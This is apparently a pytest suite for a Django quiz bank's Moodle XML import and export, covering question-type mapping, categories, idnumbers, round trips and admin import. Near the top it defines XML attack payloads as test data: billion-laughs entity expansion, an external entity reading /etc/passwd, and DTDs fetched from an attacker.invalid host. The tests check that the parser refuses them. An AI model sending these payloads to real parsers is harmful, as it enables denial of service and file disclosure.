"""Moodle XML import and export: the parse (safe against XML attacks, line-numbered), every
type's mapping, categories, idnumbers, tags, hints, combined feedback, files refused, and
round trips (file -> bank -> file -> bank gives the same questions).

The fixtures in fixtures/moodle_xml/ are our own, written after the structures of Moodle's
question/format/xml/tests/fixtures/ (nested and reverse-ordered categories, idnumbers with
markup characters, invalid grades, images in <file> and the old <image_base64>)."""

from __future__ import annotations

from io import StringIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError

from quizzes import qtypes
from quizzes.formats import detect_format, export_moodle_xml, parse_moodle_xml
from quizzes.formats.result import strip_meta
from quizzes.models import Question
from quizzes.services.bank import question_to_data
from quizzes.services.importing import questions_export, questions_import

FIXTURES = Path(__file__).parent / "fixtures" / "moodle_xml"
IMPORT_URL = "/admin/quizzes/question/import/"


def fixture(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


def line_of(text: str, needle: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)


def comparable(questions: list[dict]) -> list[dict]:
    return [strip_meta(q) for q in questions]


def bank_data() -> list[dict]:
    rows = Question.objects.order_by("pk")
    return [{k: v for k, v in question_to_data(question=q).items()} for q in rows]


# --- attacks ---------------------------------------------------------------------------------
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<quiz><question type="essay"><name><text>&lol9;</text></name>
<questiontext><text>&lol9;</text></questiontext></question></quiz>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<quiz><question type="essay"><name><text>leak</text></name>
<questiontext><text>&secret;</text></questiontext></question></quiz>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>
<quiz/>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.invalid/quiz.dtd">
<quiz/>
"""


@pytest.mark.parametrize(
    "attack", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD]
)
def test_xml_attacks_are_refused_at_the_doctype_line(attack):
    result = parse_moodle_xml(attack)
    assert result.questions == []
    (error,) = result.errors
    assert error.line == 2
    assert "DTD" in error.message and "refused" in error.message


@pytest.mark.django_db
def test_an_attack_imports_nothing_and_leaks_nothing():
    report = questions_import(text=EXTERNAL_ENTITY, fmt="moodlexml")
    assert not report.ok and report.imported == 0
    assert Question.objects.count() == 0
    assert "root:" not in str(report.errors)
    report = questions_import(text=BILLION_LAUGHS, fmt="moodlexml", allow_partial=True)
    assert report.imported == 0 and "DTD" in report.errors[0].message


def test_malformed_xml_names_its_line():
    text = "<quiz>\n<question type='essay'>\n<name><text>x</name>\n</question></quiz>"
    (error,) = parse_moodle_xml(text).errors
    assert error.line == 3 and "not well-formed" in error.message
    (error,) = parse_moodle_xml("<questions/>").errors
    assert "<quiz>" in error.message


# --- every type ------------------------------------------------------------------------------
def test_every_type_of_ours_is_read_and_others_are_skipped_with_a_warning():
    text = fixture("all_types.xml")
    result = parse_moodle_xml(text)
    assert result.errors == []
    kinds = [q["type"] for q in result.questions]
    assert sorted(set(kinds)) == sorted(qtypes.TYPES)
    assert [(w.line, w.message) for w in result.warnings] == [
        (
            line_of(text, '"random"'),
            "skipped the random question 'Random (Optimisation)': no such type here",
        ),
        (
            line_of(text, '"ddmarker"'),
            "skipped the ddmarker question 'Mark the kernel on the picture': no such type here",
        ),
    ]


def test_the_shared_parts_of_a_question():
    text = fixture("all_types.xml")
    q = parse_moodle_xml(text).questions[0]
    assert q["line"] == line_of(text, 'type="multichoice"')
    assert q["category"] == "Deep learning"
    assert q["idnumber"] == "act & relu"
    assert q["tags"] == ["activations", "week 2"]
    assert q["hints"] == ["Think of a hinge.", "It is piecewise linear."]
    assert (q["default_mark"], q["penalty"]) == (2.0, 0.3333333)
    assert (q["stem_format"], q["explanation"]) == ("html", "<p>ReLU is max(0, x).</p>")
    assert q["combined_feedback"] == {
        "correct": "Right.",
        "incorrect": "Look at the sign of the output.",
        "show_num_correct": True,
    }
    # Answers are plain text here: Moodle's <p>…<br></p> and entities are taken off; an HTML
    # question's feedback stays HTML (the pages show it sanitized: presenters.render_feedback).
    assert [c["text"] for c in q["choices"]] == ["ReLU", "Sigmoid", "tanh"]
    assert q["choices"][1]["feedback"] == "It squashes into (0, 1) &amp; never reaches 0."


def test_each_type_reads_its_own_part():
    by_type = {q["type"]: q for q in parse_moodle_xml(fixture("all_types.xml")).questions}
    assert [c["fraction"] for c in by_type["multi"]["choices"]] == [50, 50, -100]
    assert by_type["multi"]["category"] == "Deep learning/Optimisation"
    assert [(c["text"], c["fraction"]) for c in by_type["truefalse"]["choices"]] == [
        ("True", 0),
        ("False", 100),
    ]
    assert by_type["short"]["spec"] == {"case_sensitive": True}
    numerical = by_type["numerical"]
    assert [a["value"] for a in numerical["answers"]] == [28.0, 27.5, "*"]
    assert numerical["answers"][1]["tolerance"] == 1.5
    assert numerical["spec"] == {
        "units": [{"unit": "px", "multiplier": 1.0}, {"unit": "kpx", "multiplier": 0.001}],
        "unit_input": "text",
        "unit_grading": "response",
        "unit_penalty": 0.2,
    }
    assert by_type["matching"]["pairs"][0] == {
        "left": "Convolution",
        "right": "finds local patterns",
    }
    assert by_type["matching"]["distractors"] == ["adds new training data"]
    # Moodle's ordering keeps each item's right position in its fraction.
    assert by_type["ordering"]["items"] == [
        "Forward pass",
        "Compute the loss",
        "Backward pass",
        "Update the weights",
    ]
    assert by_type["gapselect"]["spec"]["choices"][1] == {
        "text": "feed-forward network",
        "group": 2,
    }
    assert by_type["ddwtos"]["spec"]["infinite"] is True
    assert by_type["essay"]["spec"] == {
        "response_template": "Inputs are normalised because",
        "grader_info": "<p>Full marks name the scale of features and the speed of convergence.</p>",
        "min_words": 50,
        "max_words": 200,
    }


def test_nested_categories_in_any_order_and_idnumbers_with_markup():
    questions = parse_moodle_xml(fixture("nested_categories.xml")).questions
    assert [(q["name"], q["category"]) for q in questions] == [
        ("Same padding", "Vision/Convolutions/Padding"),
        ("Weight sharing", "Vision/Convolutions"),
        ("Why vision models use convolutions", "Vision"),
    ]
    assert questions[0]["idnumber"] == "pad < & >"


def test_embedded_images_are_kept_and_the_old_image_base64_is_refused_with_its_name():
    text = fixture("embedded_files.xml")
    result = parse_moodle_xml(text)
    (question,) = result.questions
    (file,) = question["files"]
    assert (file["area"], file["name"], file["content_type"]) == (
        "questiontext",
        "curves.png",
        "image/png",
    )
    assert file["data"].startswith(b"\x89PNG") and file["size"] == len(file["data"])
    (old,) = result.errors
    assert old.line == line_of(text, "<name><text>An old picture") - 1
    assert "'net.png'" in old.message and "<image_base64>" in old.message


def test_a_type_that_cannot_read_its_part_is_a_line_error():
    text = (
        "<quiz>\n<question type='truefalse'><name><text>TF</text></name>\n"
        "<questiontext><text>Sure?</text></questiontext>\n"
        "<answer fraction='100'><text>yes</text></answer></question>\n</quiz>"
    )
    (error,) = parse_moodle_xml(text).errors
    assert error.line == 2 and "'true' and one 'false'" in error.message


# --- round trips -----------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["all_types.xml", "nested_categories.xml"])
def test_parse_export_parse_gives_the_same_questions(name):
    first = parse_moodle_xml(fixture(name))
    again = parse_moodle_xml(export_moodle_xml(first.questions))
    assert again.errors == [] and again.warnings == []
    assert comparable(again.questions) == comparable(first.questions)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["all_types.xml", "nested_categories.xml"])
def test_import_export_import_gives_the_same_bank(name):
    report = questions_import(text=fixture(name), fmt="moodlexml")
    assert report.ok, report.errors
    before = bank_data()
    warnings: list[str] = []
    questions = list(Question.objects.order_by("pk"))
    text = questions_export(questions=questions, fmt="moodlexml", warnings=warnings)
    assert warnings == []
    Question.objects.all().delete()
    report = questions_import(text=text, fmt="moodlexml")
    assert report.ok and report.warnings == []
    assert bank_data() == before


@pytest.mark.django_db
def test_our_bank_extras_survive_a_moodle_xml_round_trip():
    from quizzes.services.bank import question_upsert_from_data

    data = {
        "slug": "cnn-pooling",
        "name": "Pooling",
        "type": "single",
        "stem": "What does -- pooling do?",
        "difficulty": "hard",
        "tags": ["cnn"],
        "choices": [{"text": "shrinks", "fraction": 100}, {"text": "grows", "fraction": 0}],
    }
    question = question_upsert_from_data(data=data)
    text = questions_export(questions=[question], fmt="moodlexml")
    (back,) = parse_moodle_xml(text).questions
    assert (back["slug"], back["difficulty"], back["tags"]) == ("cnn-pooling", "hard", ["cnn"])


# --- the import path -------------------------------------------------------------------------
@pytest.mark.django_db
def test_import_is_all_or_nothing_and_the_bank_refusal_has_its_line():
    text = fixture("invalid_grades.xml")
    report = questions_import(text=text, fmt="moodlexml")
    (error,) = report.errors
    assert error.line == line_of(text, 'type="multichoice"')
    assert "sum to" in error.message
    assert Question.objects.count() == 0
    report = questions_import(text=text, fmt="moodlexml", allow_partial=True)
    assert Question.objects.get().name == "A good question"


@pytest.mark.django_db
def test_dry_run_writes_nothing_and_skipped_types_do_not_fail_the_file():
    report = questions_import(text=fixture("all_types.xml"), fmt="moodlexml", dry_run=True)
    assert report.ok and report.accepted == 17 and len(report.warnings) == 2
    assert Question.objects.count() == 0
    assert "2 warning(s)" in report.summary() and report.summary().startswith("Moodle XML")


@pytest.mark.django_db
def test_a_curated_question_is_kept_unless_the_import_says_update():
    text = fixture("all_types.xml")
    questions_import(text=text, fmt="moodlexml")
    curated = Question.objects.get(idnumber="act & relu")
    choice_ids = list(curated.choices.values_list("pk", flat=True))
    Question.objects.filter(pk=curated.pk).update(stem="Edited by the instructor")
    report = questions_import(text=text, fmt="moodlexml")
    kept = [w.message for w in report.warnings if w.message.startswith("kept")]
    assert len(kept) == 4  # the questions with an idnumber
    assert "import with update to replace it" in kept[0]
    assert Question.objects.get(pk=curated.pk).stem == "Edited by the instructor"
    assert Question.objects.count() == 17 + 13  # those without an idnumber came in again
    questions_import(text=text, fmt="moodlexml", update=True)
    curated.refresh_from_db()
    assert curated.stem.startswith("<p>Which function")
    assert list(curated.choices.values_list("pk", flat=True)) == choice_ids


def test_format_detection_by_name_then_content():
    assert detect_format("bank.XML", "") == "moodlexml"
    assert detect_format("bank.gift.txt", "<quiz/>") == "gift"
    assert detect_format("questions.aiken.txt", "") == "aiken"
    assert detect_format("", "\ufeff  <?xml version='1.0'?><quiz/>") == "moodlexml"
    assert detect_format("a.txt", "Q?\nA) x\nB) y\nANSWER: A\n") == "aiken"
    assert detect_format("a.txt", "Q? {=x ~y}") == "gift"


# --- commands and admin ----------------------------------------------------------------------
@pytest.mark.django_db
def test_commands_import_by_extension_and_export(tmp_path):
    path = tmp_path / "bank.xml"
    path.write_text(fixture("all_types.xml"), encoding="utf-8")
    err = StringIO()
    call_command("import_questions", str(path), stdout=StringIO(), stderr=err)
    assert Question.objects.count() == 17
    line = line_of(fixture("all_types.xml"), 'type="random"')
    assert f"{path}:{line}: warning: skipped the random question" in err.getvalue()
    out = tmp_path / "out.xml"
    call_command(
        "export_questions", "--format", "moodlexml", "-o", str(out), "--category", "Deep learning"
    )
    assert len(parse_moodle_xml(out.read_text(encoding="utf-8")).questions) == 17
    stdout = StringIO()
    call_command("export_questions", "--format", "aiken", stdout=stdout, stderr=StringIO())
    assert stdout.getvalue().count("ANSWER:") == 1
    with pytest.raises(CommandError):
        bad = tmp_path / "bad.xml"
        bad.write_text(EXTERNAL_ENTITY, encoding="utf-8")
        call_command("import_questions", str(bad), stdout=StringIO(), stderr=StringIO())


@pytest.mark.django_db
def test_admin_imports_moodle_xml_by_its_name_and_exports_it(instructor_client):
    upload = SimpleUploadedFile("bank.xml", fixture("all_types.xml").encode(), "text/xml")
    page = instructor_client.post(IMPORT_URL, {"fmt": "auto", "file": upload}).content.decode()
    assert "Moodle XML imported 17 of 17" in page
    assert "skipped the random question" in page
    ids = list(Question.objects.values_list("pk", flat=True))
    response = instructor_client.post(
        "/admin/quizzes/question/", {"action": "export_moodle_xml", "_selected_action": ids}
    )
    assert response["Content-Disposition"] == 'attachment; filename="questions.moodle.xml"'
    assert len(parse_moodle_xml(response.content.decode()).questions) == 17


@pytest.mark.django_db
def test_admin_refuses_an_attack_with_a_400(instructor_client):
    upload = SimpleUploadedFile("bank.xml", BILLION_LAUGHS.encode(), "text/xml")
    response = instructor_client.post(IMPORT_URL, {"file": upload})
    assert response.status_code == 400 and "Line 2:" in response.content.decode()


@pytest.mark.django_db
def test_gift_categories_idnumbers_and_tags_are_kept_in_the_bank():
    text = "$CATEGORY: $course$/top/Week 1\n\n// [id:e1] [tag:a]\n::E:: An {=epoch}.\n"
    assert questions_import(text=text, fmt="gift").ok
    question = Question.objects.get()
    assert (question.category, question.idnumber, question.tags) == ("Week 1", "e1", ["a"])
    exported = questions_export(questions=[question], fmt="gift")
    assert exported.startswith("$CATEGORY: Week 1\n") and "// [id:e1] [tag:a]" in exported
    # The same file again keeps the question (same category and idnumber) and says so.
    report = questions_import(text=text, fmt="gift")
    assert Question.objects.count() == 1 and report.warnings[0].message.startswith("kept")


@pytest.mark.django_db
def test_an_idnumber_given_twice_in_one_category_is_a_line_error():
    one = "<question type='essay'><name><text>{0}</text></name><idnumber>same</idnumber>"
    one += "<questiontext><text>Why?</text></questiontext></question>"
    text = "<quiz>\n" + one.format("A") + "\n" + one.format("B") + "\n</quiz>"
    report = questions_import(text=text, fmt="moodlexml")
    (error,) = report.errors
    assert error.line == 3 and "idnumber 'same'" in error.message
    assert Question.objects.count() == 0


@pytest.mark.django_db
def test_broken_cloze_questions_are_refused_with_their_lines():
    text = fixture("broken_cloze.xml")
    report = questions_import(text=text, fmt="moodlexml")
    lines = {e.line for e in report.errors}
    for name in ("No gaps at all", "A menu gap with no choices", "A number that is not one"):
        assert line_of(text, name) - 1 in lines  # the <question> line, above its name
    assert Question.objects.count() == 0


@pytest.mark.django_db
def test_admin_edits_category_and_idnumber_and_combined_feedback_only_where_it_applies(
    instructor_client,
):
    questions_import(text=fixture("all_types.xml"), fmt="moodlexml")
    single = Question.objects.get(type="single")
    truefalse = Question.objects.get(type="truefalse")
    page = instructor_client.get(f"/admin/quizzes/question/{single.pk}/change/").content.decode()
    assert 'name="combined_correct"' in page and 'name="idnumber"' in page
    page = instructor_client.get(f"/admin/quizzes/question/{truefalse.pk}/change/").content.decode()
    assert 'name="combined_correct"' not in page and 'name="category"' in page
    listing = instructor_client.get("/admin/quizzes/question/?category=Deep+learning")
    assert listing.status_code == 200 and single.name in listing.content.decode()


@pytest.mark.django_db
def test_moodles_gift_fixture_survives_moodle_xml():
    from .moodle_fixtures import moodle_text

    assert questions_import(text=moodle_text("questions.gift.txt"), fmt="gift").ok
    before = bank_data()
    text = questions_export(questions=list(Question.objects.order_by("pk")), fmt="moodlexml")
    Question.objects.all().delete()
    assert questions_import(text=text, fmt="moodlexml").ok
    assert bank_data() == before


@pytest.mark.slow
@pytest.mark.django_db
def test_the_whole_bundled_bank_survives_moodle_xml_export_and_reimport():
    """Real data, every type included: the bank comes back equal, updated in place by slug."""
    from .test_import_questions import _load_bundled_content, _trimmed

    _load_bundled_content()
    bank = list(Question.objects.order_by("pk"))
    before = {q.slug: question_to_data(question=q) for q in bank}
    text = questions_export(questions=bank, fmt="moodlexml")
    report = questions_import(text=text, fmt="moodlexml")
    assert report.ok and report.warnings == [], (report.errors[:3], report.warnings[:3])
    assert Question.objects.count() == len(bank) == report.imported
    for question in Question.objects.all():
        after = question_to_data(question=question)
        assert _trimmed(after) == _trimmed(before[question.slug]), question.slug


@pytest.mark.django_db
def test_admin_import_keeps_the_curated_question_unless_update_is_ticked(instructor_client):
    text = fixture("nested_categories.xml")
    questions_import(text=text, fmt="moodlexml")
    Question.objects.filter(idnumber="pad < & >").update(name="Curated")
    page = instructor_client.post(IMPORT_URL, {"text": text}).content.decode()
    assert "kept the bank&#x27;s question" in page
    assert Question.objects.filter(name="Curated").exists()
    instructor_client.post(IMPORT_URL, {"text": text, "update": "on"})
    assert not Question.objects.filter(name="Curated").exists()
